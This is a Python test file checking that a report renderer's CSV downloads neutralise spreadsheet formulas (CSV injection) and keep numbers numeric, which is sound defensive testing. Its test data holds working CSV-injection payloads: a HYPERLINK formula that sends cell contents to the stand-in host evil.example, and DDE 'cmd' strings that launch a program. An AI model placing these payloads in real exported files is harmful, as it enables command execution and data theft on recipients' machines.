"""CSV downloads never hold a cell a spreadsheet would run (OWASP's CSV-injection rule), and
numbers stay numbers. The files are written by the real renderer and read back with the
csv module and pandas, as a reader's tools read them."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from lnob.doc import blocks as b
from lnob.doc.research_blocks import OpenSdgIndicator, OpenSdgRow
from lnob.doc.text import pct
from lnob.render.csvcells import FORMULA_STARTS, safe_cell
from lnob.render.exports import opensdg_csv
from lnob.render.html import RenderState, render_blocks
from tests.pipeline.test_identity import localizer

PAYLOADS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload: str) -> None:
    cell = safe_cell(payload)
    assert cell == "'" + payload
    assert not cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("number", ["-1.5", "+2", "-0.25", "1E-3", "-12", "0", "42.10"])
def test_numbers_stay_numbers(number: str) -> None:
    assert safe_cell(number) == number


@pytest.mark.parametrize("text", ["Women", "Age 18-24", "", "50%", "- none", "-inf", "-NaN"])
def test_other_text_is_unchanged_unless_it_starts_like_a_formula(text: str) -> None:
    expected = "'" + text if text.startswith(FORMULA_STARTS) else text
    assert safe_cell(text) == expected


def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


def _assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                pd.to_numeric(cell)  # raises unless it is a number


def test_table_and_chart_downloads_of_hostile_labels(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("https://evil.example","x")'
    table = b.Table(
        hostile,
        (
            b.Column("category", "@Category"),
            b.Column("share", "+Share", "percent"),
            b.Column("change", "Change", "number"),
        ),
        rows=((hostile, pct(0.4), -1.5), ("-Urban", pct(0.5), -0.25)),
    )
    chart = b.Chart(
        "Chart",
        categories=(hostile, "@Rural"),
        series=(b.Series("-Series", (0.25, -0.75)),),
        unit="number",
    )
    state = RenderState(localizer("en"), tmp_path, "test")
    render_blocks([table, chart], state)
    table_rows = _cells(tmp_path / "data" / "table-1.csv")
    chart_rows = _cells(tmp_path / "data" / "fig-1.csv")
    _assert_safe(table_rows)
    _assert_safe(chart_rows)
    assert table_rows[0][:2] == ["'@Category", "'+Share"]
    assert table_rows[1][0] == "'" + hostile and table_rows[2][0] == "'-Urban"
    # numbers, negative ones included, read back as numbers
    frame = pd.read_csv(tmp_path / "data" / "table-1.csv")
    assert frame["Change"].tolist() == [-1.5, -0.25]
    assert frame["'+Share"].dtype.kind == "f"
    chart_frame = pd.read_csv(tmp_path / "data" / "fig-1.csv")
    assert chart_frame.iloc[:, 0].tolist() == ["'" + hostile, "'@Rural"]
    assert chart_frame.iloc[:, 2].tolist() == [0.25, -0.75]


def test_open_sdg_download_of_hostile_group_names() -> None:
    item = OpenSdgIndicator(
        indicator="3.8.1",
        file="3-8-1",
        name="n",
        definition="d",
        year=2026,
        columns=("Location",),
        rows=(
            OpenSdgRow((None,), 0.4, 0.3, 0.5, 120),
            OpenSdgRow(("=cmd|' /C calc'!A0",), 0.25, None, None, 40),
        ),
        unit="percent",
        source="s",
        producer="p",
        method="m",
        sample="x",
        sample_size=160,
        dates=("2026-03-01", "2026-03-28"),
        suppression="s",
        min_cell=10,
        demo=True,
    )
    text = opensdg_csv(item)
    rows = list(csv.reader(io.StringIO(text)))
    _assert_safe(rows)
    assert rows[2][1] == "'=cmd|' /C calc'!A0"
    frame = pd.read_csv(io.StringIO(text))
    assert frame["Value"].tolist() == [40.0, 25.0]
